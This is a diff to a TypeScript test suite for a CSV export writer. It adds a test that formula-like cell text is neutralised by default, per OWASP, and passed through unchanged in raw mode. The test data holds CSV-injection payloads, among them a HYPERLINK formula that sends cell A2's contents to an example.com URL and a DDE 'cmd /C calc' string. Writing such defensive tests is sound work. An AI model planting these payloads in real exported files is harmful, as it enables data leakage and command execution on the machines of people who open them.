@@ -6,8 +6,8 @@ import { BlobSink, collectBlob } from '../../src/exports/blob-sink.ts';
 import { CsvEncoder, formatDouble, isoDate, isoTimestamp } from '../../src/exports/csv-writer.ts';
 import { ZipWriter } from '../../src/exports/zip-writer.ts';
 
-function csv(batch: RecordBatch): string {
-  const encoder = new CsvEncoder(batch.schema);
+function csv(batch: RecordBatch, raw = false): string {
+  const encoder = new CsvEncoder(batch.schema, { raw });
   return new TextDecoder().decode(encoder.header()) + new TextDecoder().decode(encoder.encode(batch));
 }
 
@@ -64,6 +64,43 @@ describe('CSV writer', () => {
     expect(formatDouble(0.1 + 0.2)).toBe('0.30000000000000004');
     expect(formatDouble(-0)).toBe('0.0');
     expect(formatDouble(Number.NaN)).toBe('NaN');
+  });
+
+  it('neutralises formula-like text (OWASP) by default: a quote in front; numbers stay numbers; raw on request', () => {
+    const text = [
+      '=HYPERLINK("https://example.com/?"&A2,"x")', '+SUM(A1:A9)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1)', '\tx', '\rx', '=1,2',
+      '-5', '+1.5e3', '-.5', '-', '+', '-1e', 'a=b', ' =1', 'plain', null, '',
+    ];
+    const batch = batchOf({
+      '=name': vectorFromArray(text, new Utf8()),
+      amount: vectorFromArray(text.map((_, i) => -i - 0.5)),
+      n: vectorFromArray(text.map((_, i) => BigInt(-i))),
+    });
+    expect(csv(batch).split('\n').slice(0, -1)).toEqual([
+      "'=name,amount,n",
+      '"\'=HYPERLINK(""https://example.com/?""&A2,""x"")",-0.5,0',
+      "'+SUM(A1:A9),-1.5,-1",
+      "'-2+3+cmd|' /C calc'!A0,-2.5,-2",
+      "'@SUM(1),-3.5,-3",
+      "'\tx,-4.5,-4",
+      '"\'\rx",-5.5,-5',
+      '"\'=1,2",-6.5,-6',
+      '-5,-7.5,-7',
+      '+1.5e3,-8.5,-8',
+      '-.5,-9.5,-9',
+      "'-,-10.5,-10",
+      "'+,-11.5,-11",
+      "'-1e,-12.5,-12",
+      'a=b,-13.5,-13',
+      ' =1,-14.5,-14',
+      'plain,-15.5,-15',
+      ',-16.5,-16',
+      '"",-17.5,-17',
+    ]);
+    const raw = csv(batch, true).split('\n');
+    expect(raw[0]).toBe('=name,amount,n');
+    expect(raw[1]).toBe('"=HYPERLINK(""https://example.com/?""&A2,""x"")",-0.5,0');
+    expect(raw.slice(2, 7)).toEqual(['+SUM(A1:A9),-1.5,-1', "-2+3+cmd|' /C calc'!A0,-2.5,-2", '@SUM(1),-3.5,-3', '\tx,-4.5,-4', '"\rx",-5.5,-5']);
   });
 
   it('encodes a batch that is a slice of a larger one', () => {
